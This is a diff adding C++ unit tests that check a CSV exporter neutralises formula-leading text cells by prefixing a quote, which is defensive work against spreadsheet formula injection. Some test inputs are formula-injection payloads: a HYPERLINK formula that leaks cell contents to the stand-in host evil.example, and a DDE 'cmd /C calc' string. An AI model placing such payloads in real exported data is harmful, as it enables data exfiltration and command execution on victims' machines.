@@ -184,3 +184,50 @@ RC_GTEST_PROP(CsvProperty, QuotedRoundTrip, ()) {
 
 }  // namespace
 }  // namespace daybreak
+
+// ---- the writer: formula-leading text cells are neutralised (daybreak export --format csv) ----
+
+namespace daybreak {
+namespace {
+
+std::string written_cell(std::string_view v, bool text = true) {
+  std::string out;
+  csv_write_field(out, v, text);
+  return out;
+}
+
+TEST(CsvWriteTest, FormulaLeadingTextCellsGetALeadingQuote) {
+  EXPECT_EQ(written_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
+  EXPECT_EQ(written_cell("+91 98100 12345"), "'+91 98100 12345");  // a phone-like id typed as text
+  EXPECT_EQ(written_cell("-1+1"), "'-1+1");                       // an advisor id
+  EXPECT_EQ(written_cell("@SUM(1+1)*cmd|' /C calc'!A0"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+  EXPECT_EQ(written_cell("status failed: 131026 =cmd"), "status failed: 131026 =cmd");  // only the first character counts
+  EXPECT_EQ(written_cell("\t=1"), "'\t=1");
+  EXPECT_EQ(written_cell("\r=1"), "\"'\r=1\"");  // neutralised and, holding a CR, quoted
+  EXPECT_EQ(written_cell(""), "");
+  EXPECT_EQ(written_cell("A-17"), "A-17");
+}
+
+TEST(CsvWriteTest, NumbersAndHeadersAreWrittenAsTheyAre) {
+  EXPECT_EQ(written_cell("-5", false), "-5");      // a number SQLite holds as a number stays a number
+  EXPECT_EQ(written_cell("-0.25", false), "-0.25");
+  EXPECT_EQ(written_cell("a,b", false), "\"a,b\"");  // quoting still applies
+  EXPECT_TRUE(csv_formula_leading("=1"));
+  EXPECT_FALSE(csv_formula_leading("1=1"));
+}
+
+TEST(CsvWriteTest, NeutralisedCellsReadBackAsTextWithTheQuote) {
+  std::string line;
+  csv_write_field(line, "=1+2", true);
+  line.push_back(',');
+  csv_write_field(line, "-3,\"x\"", true);
+  std::vector<CsvRecord> recs;
+  parse_csv(line + "\n", [&](const CsvRecord& r) { recs.push_back(r); });
+  ASSERT_EQ(recs.size(), 1u);
+  ASSERT_EQ(recs[0].fields.size(), 2u);
+  EXPECT_EQ(recs[0].fields[0], "'=1+2");
+  EXPECT_EQ(recs[0].fields[1], "'-3,\"x\"");
+}
+
+}  // namespace
+}  // namespace daybreak
